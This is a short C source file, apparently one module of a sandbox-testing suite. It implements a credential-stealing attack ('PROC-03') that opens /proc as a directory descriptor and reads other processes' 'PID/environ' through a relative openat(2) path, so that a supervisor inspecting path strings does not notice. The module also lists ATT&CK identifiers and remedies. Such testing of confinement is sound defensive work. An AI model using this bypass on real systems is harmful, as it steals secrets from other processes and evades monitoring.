// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, past a supervisor that reads the path argument of openat(2).
 * Means: the folder /proc as a descriptor, and the rest relative to it: the string is
 *        "PID/environ", and what it means is in the kernel's table of descriptors.
 */
#include "attacks/proc-read/neighbours.h"

#include <fcntl.h>
#include <stdio.h>

static int proc;

static bool rob(pid_t pid)
{
	char path[64];

	snprintf(path, sizeof(path), "%d/environ", pid);
	return loot_environ(openat(proc, path, O_RDONLY | O_CLOEXEC));
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	proc = open("/proc", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (proc < 0)
		return denied("open /proc");
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("openat(/proc, PID/environ)");
}

const struct attack attack = {
	.effect = "the worker's environment is read through /proc",
	.means = "openat(2) relative to a descriptor of /proc: the path says nothing",
	.oracle = "secret:environ",
	.quick = true,
	.id = "PROC-03",
	.attack_id = "T1057, T1003.007, CWE-497",
	.remedy = "Landlock without /proc; a worker that is not dumpable; a pid namespace",
	.refs = (const char *const[]){ "openat(2)", NULL },
	.run = run,
};
